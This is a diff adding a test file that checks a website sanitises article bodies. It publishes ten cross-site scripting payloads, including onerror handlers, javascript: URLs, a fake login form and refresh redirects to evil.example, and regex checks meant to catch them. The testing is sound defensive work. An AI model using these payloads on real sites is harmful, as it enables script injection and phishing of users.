@@ -1,0 +1,61 @@
+import { afterAll, beforeAll, expect, test } from "vitest";
+
+import { browserAgent, publish } from "../support/content.ts";
+import { type RunningSite, startRunningSite } from "../support/running-site.ts";
+
+let running: RunningSite;
+
+beforeAll(async () => {
+  running = await startRunningSite();
+});
+afterAll(() => running.stop());
+
+/** Bodies that an editor whose account was stolen might write. */
+const bodies = [
+  "<p>one</p><script>alert(1)</script>",
+  '<img src=x onerror=alert(1)><img src="javascript:alert(1)">',
+  '<a href="javascript:alert(1)">x</a><a href="JaVa&#x09;script:alert(1)">y</a><a href="data:text/html,<script>alert(1)</script>">z</a>',
+  "<svg><script>alert(1)</script></svg><svg/onload=alert(1)>",
+  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x"><base href="https://evil.example/">',
+  '</div></article></main><footer>fake</footer><h1>Second headline</h1><form action="https://evil.example"><input name="email"><button>Send</button></form>',
+  '<p title="</p><img src=x onerror=alert(1)>">x</p><p style="position:fixed;inset:0;background:url(https://evil.example)">y</p>',
+  "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">x</math><style>@import 'https://evil.example'</style><link rel=stylesheet href=https://evil.example>",
+  '<<script>alert(1)//<</script><!--><img src=x onerror=alert(1)>--><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  `<template><img src=x onerror=alert(1)></template><textarea></textarea><meta http-equiv="refresh" content="0;url=https://evil.example">${"<b><i>".repeat(300)}deep`,
+];
+
+test.each(bodies.map((content, index) => [index + 1, content] as const))(
+  "hostile body %i renders harmless",
+  async (number, content) => {
+    const slug = `hostile-${number}`;
+    await publish(running.supabase, "insights", {
+      title: `Hostile ${number}`,
+      slug,
+      content: `<p>Before.</p>${content}`,
+    });
+    const response = await fetch(new URL(`/insights/${slug}`, running.site.url), {
+      headers: { "user-agent": browserAgent },
+    });
+    const html = await response.text();
+    expect(response.status).toBe(200);
+    const [, rest = ""] = html.split('<div class="article-body">');
+    const [body = ""] = rest.split("</article>");
+    expect(body).toContain("Before.");
+    // Tags as they stand in the page; text that looks like one is escaped.
+    const tags = body.match(/<[a-z][^>]*>/gi) ?? [];
+    for (const tag of tags) {
+      expect(tag).not.toMatch(
+        /^<(script|style|iframe|object|embed|base|link|meta|svg|math|form|input|template|textarea|h1)\b/i,
+      );
+      expect(tag).not.toMatch(/\son[a-z]+\s*=/i);
+      expect(tag).not.toMatch(/(href|src)="?\s*(javascript|data|vbscript):/i);
+      expect(tag).not.toMatch(/\sstyle=/i);
+    }
+    // It stays inside its own element, and the page after it is whole.
+    expect(html.match(/<h1[\s>]/g)).toHaveLength(1);
+    expect(html.match(/<footer[\s>]/g)).toHaveLength(1);
+    expect(html.match(/<main[\s>]/g)).toHaveLength(1);
+    expect(html.match(/<\/main>/g)).toHaveLength(1);
+    expect(html.trimEnd()).toMatch(/<\/html>$/);
+  },
+);
